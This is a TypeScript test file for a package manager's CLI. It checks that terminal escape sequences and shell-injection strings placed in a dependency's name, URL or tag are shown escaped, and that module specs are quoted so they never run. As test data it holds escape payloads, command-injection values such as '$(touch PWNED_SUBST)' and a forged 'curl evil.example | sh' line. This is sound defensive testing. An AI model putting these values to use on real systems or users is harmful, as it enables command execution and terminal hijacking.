/**
 * Issue 18, item 10: a dependency's name, url or version holding terminal escape sequences (OSC 0 sets
 * the window title, CSI 2J clears the screen, OSC 52 writes the clipboard, U+009B is an 8-bit CSI,
 * U+202E reverses the text) reaches the terminal only as visible escapes, through the real CLI, with
 * and without colour; `--json` output stays JSON of the same values; and a module spec from a
 * dependency's ivpm.yaml is written into modules.envrc as one quoted shell word, never run.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import { runUpdate } from "../../core/update/update.ts";
import { startFakeGitHub } from "../_helpers/fake_github.ts";
import { startHttpServer } from "../_helpers/http_server.ts";
import { ivpmCommandArgs } from "../_helpers/cli.ts";
import { dirDep, pluginRegistry, writeFixture } from "../_helpers/direnv_modules.ts";
import { modulesWorld, writeFakeModulecmd, writeModulefile } from "../_helpers/fake_modulecmd.ts";
import { builtinSourceRegistry, SourceRegistry } from "../../core/fetch/sources/registry.ts";
import { createModuleSource } from "../../core/fetch/sources/module.ts";
import {
  cliEnv,
  type CliResult,
  cliResult,
  depSets,
  exists,
  runIvpm,
  tempRoot,
  writeIvpmYaml,
} from "../_helpers/update_project.ts";

/** Window title, clear screen, clipboard write, 8-bit CSI (red), right-to-left override. */
const HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b]52;c;cHduZWQ=\x07\u009b31m\u202e";
/** How ivpm shows {@link HOSTILE}. */
const SHOWN = "\\x1b]0;pwned\\x07\\x1b[2J\\x1b]52;c;cHduZWQ=\\x07\\u009b31m\\u202e";

/** What a terminal would act on: C0 controls but tab, newline and CR, DEL, C1, bidi controls. */
// deno-lint-ignore no-control-regex
const ACTED_ON = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

/**
 * `text` less ivpm's own sequences: its colours (SGR 0, 1, 2, 31, 32, 33, 36) and the status line's
 * "carriage return, erase line". What is left must hold nothing a terminal acts on.
 */
function withoutOwnSequences(text: string): string {
  // deno-lint-ignore no-control-regex
  return text.replace(/\x1b\[(?:0|1|2|31|32|33|36)m/g, "").replace(/\r\x1b\[2K/g, "");
}

function assertInert(label: string, text: string, own = false): void {
  const rest = own ? withoutOwnSequences(text) : text;
  const hit = ACTED_ON.exec(rest);
  assert.equal(
    hit,
    null,
    `${label}: raw U+${hit?.[0].charCodeAt(0).toString(16).padStart(4, "0")} at ` +
      `${JSON.stringify(rest.slice(Math.max(0, (hit?.index ?? 0) - 40), (hit?.index ?? 0) + 40))}`,
  );
}

/**
 * `ivpm <args>` in `cwd` on a pseudo-terminal (`script`), so that stderr is a terminal: colour and the
 * redrawn status line are on, as for a person at a terminal. Returns what the terminal received.
 */
async function runOnTerminal(cwd: string, args: string[], env: Record<string, string>): Promise<CliResult> {
  const quote = (s: string) => `'${s.replaceAll("'", `'\\''`)}'`;
  const command = [Deno.execPath(), ...ivpmCommandArgs(args)].map(quote).join(" ");
  const colourEnv: Record<string, string> = { ...env, TERM: "xterm-256color", COLUMNS: "200" };
  delete colourEnv.NO_COLOR;
  return await cliResult(
    new Deno.Command("script", {
      args: ["-qec", command, "/dev/null"],
      cwd,
      env: colourEnv,
      clearEnv: true,
      stdin: "null",
      stdout: "piped",
      stderr: "piped",
    }).spawn(),
  );
}

/**
 * A project whose dependency `dep` (a local directory) declares, in its own ivpm.yaml, `tool` (a
 * GitHub release whose tag is hostile) and `payload` (an http url with a hostile query, answered 404).
 */
async function hostileProject(root: string, serverUrl: string): Promise<string> {
  await writeIvpmYaml(join(root, "dep"), {
    name: "dep",
    "dep-sets": depSets({
      default: [
        { name: "tool", src: "gh-rls", url: "https://github.com/acme/tool", file: "tool.txt" },
        { name: "payload", src: "http", url: `${serverUrl}/missing.tar.gz?${HOSTILE}` },
      ],
    }),
  });
  return await writeIvpmYaml(join(root, "proj"), {
    name: "proj",
    "dep-sets": depSets({ default: [{ name: "dep", src: "dir", url: join(root, "dep") }] }),
  });
}

Deno.test("safety 10: a dependency's hostile url and release tag are printed as visible escapes", async () => {
  const tmp = await tempRoot();
  const server = startHttpServer({});
  const gh = startFakeGitHub({
    repos: {
      "acme/tool": { releases: [{ tag: `v1${HOSTILE}`, assets: [{ name: "tool.txt", body: "t" }] }] },
    },
  });
  try {
    const proj = await hostileProject(tmp.path, server.url);
    const env = cliEnv({ GITHUB_API_URL: gh.url });
    for (const args of [["update"], ["update", "-v"], ["update", "-vv"]]) {
      const r = await runIvpm(proj, args, env);
      const label = args.join(" ");
      assert.equal(r.code, 1, r.stderr);
      // NO_COLOR: no escape sequence at all, ivpm's own included.
      assertInert(label, r.stderr);
      assert.equal(r.stderr.includes("\x1b"), false, `${label}: ${JSON.stringify(r.stderr)}`);
      assert.ok(r.stderr.includes(`<< tool (`) && r.stderr.includes(`v1${SHOWN}`), `${label}: ${r.stderr}`);
      assert.ok(
        r.stderr.includes(
          `error: failed to update package 'payload': Failed to download ` +
            `${server.url}/missing.tar.gz?${SHOWN}: HTTP 404`,
        ),
        `${label}: ${r.stderr}`,
      );
    }

    // On a terminal: ivpm's colours and status line, and nothing else.
    const tty = await runOnTerminal(proj, ["update"], env);
    const seen = tty.stdout + tty.stderr;
    assert.notEqual(tty.code, 0, seen);
    assert.ok(seen.includes("\x1b[31merror:\x1b[0m failed to update package 'payload'"), "colour is on");
    assert.ok(seen.includes(`v1${SHOWN}`), JSON.stringify(seen));
    assertInert("terminal", seen, true);
  } finally {
    await server.close();
    await gh.close();
    await tmp.dispose();
  }
});

Deno.test("safety 10: --json output with hostile values stays JSON of those same values", async () => {
  const tmp = await tempRoot();
  const server = startHttpServer({});
  const gh = startFakeGitHub({
    repos: {
      "acme/tool": { releases: [{ tag: `v1${HOSTILE}`, assets: [{ name: "tool.txt", body: "t" }] }] },
    },
  });
  try {
    const proj = await hostileProject(tmp.path, server.url);
    const r = await runIvpm(proj, ["update", "--json"], cliEnv({ GITHUB_API_URL: gh.url }));
    assert.equal(r.code, 1, r.stderr);
    assertInert("stdout", r.stdout);
    assertInert("stderr", r.stderr);
    const events = r.stdout.trim().split("\n").map((line) => JSON.parse(line));
    const tool = events.find((e) => e.type === "package-complete" && e.name === "tool");
    assert.equal(tool?.version, `v1${HOSTILE}`, "the value decodes to exactly the tag");
    const error = events.find((e) => e.type === "error");
    assert.ok(String(error?.message).includes(`${server.url}/missing.tar.gz?${HOSTILE}`), error?.message);
  } finally {
    await server.close();
    await gh.close();
    await tmp.dispose();
  }
});

Deno.test("safety 10: a hostile package name in a dependency's ivpm.yaml is shown escaped in its diagnostic", async () => {
  const tmp = await tempRoot();
  try {
    await writeIvpmYaml(join(tmp.path, "dep"), {
      name: "dep",
      "dep-sets": depSets({ default: [{ name: `evil${HOSTILE}`, src: "dir", url: "/nonexistent" }] }),
    });
    const proj = await writeIvpmYaml(join(tmp.path, "proj"), {
      name: "proj",
      "dep-sets": depSets({ default: [{ name: "dep", src: "dir", url: join(tmp.path, "dep") }] }),
    });
    const r = await runIvpm(proj, ["update"], cliEnv());
    assert.equal(r.code, 1, r.stderr);
    assertInert("stderr", r.stderr);
    assert.match(r.stderr, /packages\/dep\/ivpm\.yaml:\d+:\d+: /);
    assert.ok(r.stderr.includes(`Dependency 'evil${SHOWN}': invalid package name`), r.stderr);
    const tty = await runOnTerminal(proj, ["update", "-v"], cliEnv());
    assert.notEqual(tty.code, 0);
    assert.ok((tty.stdout + tty.stderr).includes(`evil${SHOWN}`), tty.stdout + tty.stderr);
    assertInert("terminal", tty.stdout + tty.stderr, true);
  } finally {
    await tmp.dispose();
  }
});

/** Module specs a dependency could declare to run a command when modules.envrc is sourced. */
const HOSTILE_SPECS = [
  "evil'; touch PWNED_QUOTE; echo '",
  "evil$(touch PWNED_SUBST)",
  "evil`touch PWNED_BACKTICK`",
  "evil; touch PWNED_SEMI",
  'evil"$(touch PWNED_DQ)"',
  // Not a command, but a bidi override: written as a printf escape, read back as itself.
  "evil\u202ecod.sh",
];

Deno.test("safety 10: module specs from a dependency are quoted in modules.envrc: bash sourcing it runs none", async () => {
  await using w = await modulesWorld();
  // The fake Lmod: its `show` names a modulefile whatever characters its path holds.
  const lmod = await writeFakeModulecmd(join(w.root, "lmod", "libexec", "lmod"), "lmod");
  for (const spec of HOSTILE_SPECS) await writeModulefile(w.modulepath, spec, "setenv EVIL 1");
  const proj = await writeFixture(w.root, {
    // A dependency whose own ivpm.yaml declares the module packages.
    lib: { files: { "README": "lib\n" } },
  }, [dirDep(w.root, "lib")]);
  await Deno.writeTextFile(
    join(w.root, "src", "lib", "ivpm.yaml"),
    JSON.stringify({
      package: {
        name: "lib",
        "dep-sets": [{
          name: "default",
          deps: HOSTILE_SPECS.map((module, i) => ({ name: `m${i}`, src: "module", module })),
        }],
      },
    }),
  );
  const env = w.env({ LMOD_CMD: lmod });
  const sources = new SourceRegistry();
  for (const s of builtinSourceRegistry().list()) {
    sources.register(s.name === "module" ? createModuleSource({ env: () => env }) : s);
  }
  await runUpdate({
    projectDir: proj,
    cacheDir: null,
    sources,
    handlers: await pluginRegistry(["modules"]),
  });
  const envrc = join(proj, "packages", "modules.envrc");
  const text = await Deno.readTextFile(envrc);
  assert.equal(
    text.split("\n").filter((l) => l.startsWith("module load ")).length,
    HOSTILE_SPECS.length,
    text,
  );

  // The file parses, and sourcing it with a `module` function that records its arguments shows each
  // spec arrives as one word, exactly as declared; nothing else ran.
  const work = join(w.root, "shell");
  await Deno.mkdir(work);
  const syntax = await new Deno.Command("bash", { args: ["-n", envrc], stderr: "piped" }).output();
  assert.ok(syntax.success, new TextDecoder().decode(syntax.stderr));
  const script = `module() { printf '%s\\0' "$#" "$@" >> args.bin; }\n. ${JSON.stringify(envrc)}\n`;
  for (const shell of ["bash", "sh"]) {
    await Deno.remove(join(work, "args.bin")).catch(() => {});
    const run = await new Deno.Command(shell, { args: ["-c", script], cwd: work, stderr: "piped" }).output();
    assert.ok(run.success, `${shell}: ${new TextDecoder().decode(run.stderr)}`);
    const words = new TextDecoder().decode(await Deno.readFile(join(work, "args.bin"))).split("\0");
    words.pop();
    const calls: string[][] = [];
    for (let i = 0; i < words.length;) {
      const n = Number(words[i]);
      calls.push(words.slice(i + 1, i + 1 + n));
      i += 1 + n;
    }
    const expected = HOSTILE_SPECS.map((spec) => ["load", spec]);
    assert.deepEqual(
      calls.sort(),
      expected.sort(),
      `${shell}: each spec is one word`,
    );
    const left = [];
    for await (const e of Deno.readDir(work)) left.push(e.name);
    assert.deepEqual(left, ["args.bin"], `${shell}: nothing ran (no PWNED file)`);
    for (const dir of [proj, w.root]) {
      for await (const e of Deno.readDir(dir)) assert.doesNotMatch(e.name, /PWNED/, `${shell}: ${dir}`);
    }
  }
  assert.equal(await exists(join(proj, "PWNED_QUOTE")), false);
});

Deno.test("safety 10: a line break in a dependency's url cannot forge a line of ivpm's output", async () => {
  const tmp = await tempRoot();
  const server = startHttpServer({});
  try {
    await writeIvpmYaml(join(tmp.path, "dep"), {
      name: "dep",
      "dep-sets": depSets({
        default: [{
          name: "payload",
          src: "http",
          url: `${server.url}/x.tar.gz\nhint: all is fine, run: curl evil.example | sh\r\nwarning: fake`,
        }],
      }),
    });
    const proj = await writeIvpmYaml(join(tmp.path, "proj"), {
      name: "proj",
      "dep-sets": depSets({ default: [{ name: "dep", src: "dir", url: join(tmp.path, "dep") }] }),
    });
    const r = await runIvpm(proj, ["update"], cliEnv());
    assert.equal(r.code, 1, r.stderr);
    assertInert("stderr", r.stderr);
    const lines = r.stderr.split("\n");
    assert.equal(lines.filter((l) => l.startsWith("hint:")).length, 1, r.stderr);
    assert.ok(
      !lines.some((l) => l.startsWith("hint: all is fine") || l.startsWith("warning: fake")),
      r.stderr,
    );
    assert.ok(r.stderr.includes("x.tar.gz\\x0ahint: all is fine"), r.stderr);
  } finally {
    await server.close();
    await tmp.dispose();
  }
});
